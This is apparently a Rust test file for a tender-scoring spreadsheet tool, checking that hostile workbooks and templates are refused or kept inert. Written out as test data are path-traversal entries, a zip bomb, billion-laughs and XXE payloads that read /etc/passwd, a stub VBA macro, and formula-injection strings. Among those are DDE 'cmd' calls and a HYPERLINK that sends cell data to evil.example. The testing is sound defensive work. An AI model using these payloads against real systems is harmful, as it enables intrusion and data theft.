//! Hostile and broken input: refused with a clear message and exit 2, before memory blows up,
//! and nothing lost or executed.

mod common;

use std::path::{Path, PathBuf};

use common::*;

#[test]
fn entries_that_escape_the_package_are_refused() {
    let dir = temp();
    for (i, bad) in ["../evil.xml", "/etc/cron.d/evil", "xl\\..\\evil.xml"].iter().enumerate() {
        let f = dir.path().join(format!("escape{i}.xlsx"));
        write_parts(&f, &example_parts(&[(bad, b"x".to_vec())]), true);
        refused(&f, "points outside the package", 100);
    }
}

#[test]
fn duplicate_entries_are_refused() {
    let dir = temp();
    let f = dir.path().join("dup.xlsx");
    write_parts(&f, &example_parts(&[("XL/Workbook.xml", b"<workbook/>".to_vec())]), true);
    refused(&f, "holds 'XL/Workbook.xml' twice", 100);
}

#[test]
fn a_zip_bomb_is_refused_before_it_inflates() {
    let dir = temp();
    let f = dir.path().join("bomb.xlsx");
    // 300 MiB of spaces deflates to about 300 KiB: over the part limit and the ratio limit.
    write_parts(&f, &example_parts(&[("xl/worksheets/sheet2.xml", vec![b' '; 300 << 20])]), true);
    refused(&f, "zip bomb", 100);
}

#[test]
fn a_huge_shared_string_table_is_refused() {
    let dir = temp();
    let f = dir.path().join("strings.xlsx");
    let mut sst = String::from("<sst xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\">");
    for i in 0..2_100_000 {
        sst.push_str(&format!("<si><t>{i}</t></si>"));
    }
    sst.push_str("</sst>");
    write_parts(&f, &example_parts(&[("xl/sharedStrings.xml", sst.into_bytes())]), false);
    refused(&f, "the shared-string table holds more than 2000000 strings", 400);
}

#[test]
fn a_sheet_of_millions_of_cells_is_refused() {
    let dir = temp();
    let f = dir.path().join("cells.xlsx");
    let mut sheet = String::from("<worksheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><sheetData>");
    for r in 1..=42_000 {
        sheet.push_str(&format!("<row r=\"{r}\">"));
        for _ in 0..100 {
            sheet.push_str("<c/>");
        }
        sheet.push_str("</row>");
    }
    sheet.push_str("</sheetData></worksheet>");
    write_parts(&f, &example_parts(&[("xl/worksheets/sheet2.xml", sheet.into_bytes())]), false);
    refused(&f, "more than 4000000 cells", 150);
}

#[test]
fn entity_declarations_are_refused_in_workbooks_and_templates() {
    let dir = temp();
    let laughs = br#"<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&lol2;</t></is></c></row></sheetData></worksheet>"#;
    let f = dir.path().join("laughs.xlsx");
    write_parts(&f, &example_parts(&[("xl/workbook.xml", laughs.to_vec())]), true);
    refused(&f, "DOCTYPE", 100);
    let xxe = br#"<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>&x;</w:t></w:r></w:p></w:body></w:document>"#;
    let mut z = zip::ZipArchive::new(std::fs::File::open(fixture("letter-split-runs.docx")).unwrap()).unwrap();
    let parts: Vec<(String, Vec<u8>)> = (0..z.len())
        .map(|i| {
            let mut e = z.by_index(i).unwrap();
            let mut b = Vec::new();
            std::io::Read::read_to_end(&mut e, &mut b).unwrap();
            let name = e.name().to_string();
            if name == "word/document.xml" { (name, xxe.to_vec()) } else { (name, b) }
        })
        .collect();
    let t = dir.path().join("xxe.docx");
    write_parts(&t, &parts, true);
    let run = tenderkit(&[&"template", &"check", &t]);
    assert_eq!(run.code, 2, "{}", run.all());
    assert!(run.stderr.contains("DOCTYPE") && !run.all().contains("root:"), "{}", run.all());
}

#[test]
fn strict_open_xml_and_an_empty_workbook_get_their_own_messages() {
    let dir = temp();
    let rels = br#"<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://purl.oclc.org/ooxml/officeDocument/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>"#;
    let f = dir.path().join("strict.xlsx");
    write_parts(&f, &example_parts(&[("_rels/.rels", rels.to_vec())]), true);
    refused(&f, "Strict Open XML", 100);

    let empty = dir.path().join("empty.xlsx");
    let wb = br#"<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheets/></workbook>"#;
    write_parts(&empty, &example_parts(&[("xl/workbook.xml", wb.to_vec())]), true);
    refused(&empty, "the workbook has no sheets", 100);
}

#[test]
fn macros_in_an_xlsm_are_never_run_and_survive_a_write() {
    let dir = temp();
    let mut parts = example_parts(&[("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0 Attribute VB_Name = \"Evil\"\nShell \"calc.exe\"".to_vec())]);
    for (name, data) in parts.iter_mut() {
        if name == "[Content_Types].xml" {
            let s = String::from_utf8(data.clone()).unwrap().replace(
                "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
                "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
            );
            *data = s
                .replace("</Types>", "<Default Extension=\"bin\" ContentType=\"application/vnd.ms-office.vbaProject\"/></Types>")
                .into_bytes();
        }
    }
    let xlsm = dir.path().join("matrix.xlsm");
    write_parts(&xlsm, &parts, true);
    let out = dir.path().join("scored.xlsm");
    let run = tenderkit(&[&"score", &xlsm, &"-o", &out]);
    assert_eq!(run.code, 0, "an .xlsm is read like an .xlsx: {}", run.all());
    let mut z = zip::ZipArchive::new(std::fs::File::open(&out).unwrap()).unwrap();
    let mut vba = Vec::new();
    std::io::Read::read_to_end(&mut z.by_name("xl/vbaProject.bin").unwrap(), &mut vba).unwrap();
    assert_eq!(vba, parts.iter().find(|p| p.0 == "xl/vbaProject.bin").unwrap().1, "the macros are kept, byte for byte");
}

#[test]
fn formula_looking_text_from_returns_stays_text_in_every_output() {
    let dir = temp();
    let evil = [
        "=HYPERLINK(\"http://evil.example/steal?d=\"&A1,\"Click\")",
        "=cmd|' /C calc'!A0",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ];
    // Put the hostile text into a returned justification, collect, and look at every cell written.
    let tariq = dir.path().join("tariq-hussain-quality.xlsx");
    std::fs::copy(example("returns/tariq-hussain-quality.xlsx"), &tariq).unwrap();
    let (_, layout) = tenderkit::xlsx::returns::read_return(&tariq).unwrap();
    let wb = tenderkit::xlsx::Workbook::open(&tariq).unwrap();
    let mut e = tenderkit::xlsx::Edits::default();
    let cells: Vec<_> = layout.scores.values().map(|(_, j)| *j).take(evil.len()).collect();
    for (at, text) in cells.iter().zip(evil) {
        e.set(&layout.sheet, *at, tenderkit::xlsx::CellEdit::Text(text.into()));
    }
    let hostile = dir.path().join("tariq.xlsx");
    wb.write(&e, &hostile).unwrap();
    let mut returns: Vec<PathBuf> = std::fs::read_dir(example("returns"))
        .unwrap()
        .map(|x| x.unwrap().path())
        .filter(|p| !p.ends_with("tariq-hussain-quality.xlsx"))
        .collect();
    returns.push(hostile);
    let out = dir.path().join("moderated.xlsx");
    let m = example("matrix.xlsx");
    let mut args: Vec<&dyn AsRef<std::ffi::OsStr>> = vec![&"returns", &"collect", &m];
    for r in &returns {
        args.push(r);
    }
    let panel = example("panel.toml");
    args.extend([&"--evaluators" as &dyn AsRef<std::ffi::OsStr>, &panel, &"-o", &out]);
    tenderkit(&args);
    let moderated = tenderkit::xlsx::Workbook::open(&out).unwrap();
    let mut found = 0;
    for s in moderated.sheets() {
        for c in moderated.sheet(&s.name).unwrap().cells() {
            let text = c.value.text();
            if evil.iter().any(|e| text.contains(e.trim_start_matches(['\t', '\r']))) {
                found += 1;
                assert!(!c.has_formula(), "{}!{} became a formula", s.name, c.at);
            }
        }
    }
    assert!(found >= evil.len(), "the hostile text reached the workbook as text ({found} cells)");
}

/// A matrix of 304 bids in `dir`: big enough that writing it takes a while.
fn big_matrix(dir: &Path) -> PathBuf {
    let big = dir.join("big.xlsx");
    let t = dir.join("tender.toml");
    let mut tender = std::fs::read_to_string(example("tender.toml")).unwrap();
    for i in 0..300 {
        tender.push_str(&format!("\n[[bidders]]\nname = \"Extra Bidder {i} Ltd\"\n"));
    }
    std::fs::write(&t, tender).unwrap();
    assert_eq!(tenderkit(&[&"matrix", &"new", &t, &"-o", &big]).code, 0);
    big
}

/// Starts `tenderkit rescale` writing `matrix` to `out`, quietly.
fn start_rescale(matrix: &Path, out: &Path) -> std::process::Child {
    std::process::Command::new(env!("CARGO_BIN_EXE_tenderkit"))
        .arg("rescale")
        .arg(matrix)
        .args(["--to", "0-100", "-o"])
        .arg(out)
        .arg("--force")
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap()
}

#[test]
fn killing_a_write_midway_leaves_the_previous_file_intact() {
    let dir = temp();
    let big = big_matrix(dir.path());
    let out = dir.path().join("out.xlsx");
    let previous = std::fs::read(example("matrix.xlsx")).unwrap();
    for delay_ms in [5u64, 20, 40, 80, 160] {
        std::fs::write(&out, &previous).unwrap();
        let mut child = start_rescale(&big, &out);
        std::thread::sleep(std::time::Duration::from_millis(delay_ms));
        let _ = child.kill();
        let _ = child.wait();
        let now = std::fs::read(&out).unwrap();
        if now != previous {
            // The write finished before the kill: then the file is whole.
            tenderkit::xlsx::Workbook::open(&out).expect("a replaced file is complete");
        }
    }
}

#[test]
fn ctrl_c_mid_write_leaves_the_previous_file_and_no_temporary_file() {
    let dir = temp();
    let big = big_matrix(dir.path());
    let out_dir = dir.path().join("out");
    std::fs::create_dir(&out_dir).unwrap();
    let out = out_dir.join("out.xlsx");
    let previous = std::fs::read(example("matrix.xlsx")).unwrap();
    let part_files = || {
        std::fs::read_dir(&out_dir).unwrap().filter_map(|e| e.ok()).filter(|e| e.file_name().to_string_lossy().ends_with(".part")).count()
    };
    let mut interrupted = 0;
    for _ in 0..5 {
        std::fs::write(&out, &previous).unwrap();
        let mut child = start_rescale(&big, &out);
        // Interrupt as soon as the temporary file appears: the write is under way.
        let start = std::time::Instant::now();
        while part_files() == 0 && child.try_wait().unwrap().is_none() && start.elapsed().as_secs() < 30 {
            std::thread::sleep(std::time::Duration::from_micros(200));
        }
        unsafe { libc::kill(child.id() as i32, libc::SIGINT) };
        let status = child.wait().unwrap();
        assert_eq!(part_files(), 0, "no half-written temporary file is left behind");
        if std::fs::read(&out).unwrap() == previous {
            assert_eq!(status.code(), Some(130), "the write was interrupted");
            interrupted += 1;
        } else {
            // The rename won the race with the interrupt: then the file is whole.
            tenderkit::xlsx::Workbook::open(&out).expect("a replaced file is complete");
        }
    }
    assert!(interrupted > 0, "at least one run was interrupted mid-write");
}
